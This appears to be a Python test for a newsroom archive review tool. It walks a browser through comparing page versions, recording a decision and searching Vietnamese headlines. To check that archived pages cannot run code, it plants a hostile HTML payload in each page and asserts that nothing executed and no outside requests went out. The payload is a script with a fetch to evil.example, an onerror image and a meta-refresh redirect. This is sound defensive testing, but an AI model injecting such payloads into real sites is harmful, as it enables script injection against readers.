"""What a person does with the desk, in a browser: from a day to a difference and the page as it was, a decision, a search."""

import json
import subprocess
from dataclasses import replace

import httpx

from scrapers.archive.archive import Archive
from scrapers.model.link import State
from tests.desk.fill import DAY, refined
from tests.desk.test_accessible import pytestmark  # ruff: ignore[unused-import] - the same needs
from tests.support.paths import ROOT, TOOLS
from tests.support.shelf import Served, page, text

EVIL = (
    "<script>parent.ran = 1; document.title = 'ran'; fetch('https://evil.example/a')</script>"
    "<img src=https://evil.example/b onerror='parent.ran = 1'><meta http-equiv=refresh content='0;url=//evil.example'></body>"
)


def hostile(served: Served) -> Served:
    return replace(served, html=served.html.replace("</body>", EVIL))


def test_a_person_reads_compares_decides_and_searches(editor: httpx.Client, archive: Archive) -> None:
    first = page(1, headline="Đảng họp ở Hòa Bình")
    refined(
        archive, "20261122T1200Z", hostile(first), hostile(page(3, headline="Mưa lớn", body=["Too short."]))
    )
    later = page(1, headline="Đảng họp ở Huế", body=(*text(1), "A paragraph more."))
    refined(archive, "20261122T1400Z", hostile(later))
    asked = {
        "base": str(editor.base_url).rstrip("/"),
        "day": f"/days/gazette/{DAY}",
        "words": "/post1",
        "searches": ["dang", "Đảng", "Đãng"],
    }
    command = [str(TOOLS / "python"), str(ROOT / "tests" / "support" / "walk_desk.py")]
    done = subprocess.run(command, input=json.dumps(asked), capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    said = json.loads(done.stdout)
    assert said["difference"] == {"del": ["Hòa Bình"], "ins": ["Huế", "A paragraph more."]}
    assert said["heading"] == "Đảng họp ở Huế"
    assert said["beside"] == "Mưa lớn"
    assert "released" in said["decided"]
    assert {each.state for each in archive.catalog.filed()} == {State.ARCHIVED}, "none waits"
    assert said["hits"] == {"dang": ["Đảng"], "Đảng": ["Đảng"], "Đãng": []}
    assert (said["ran"], said["foreign"]) == (False, [])
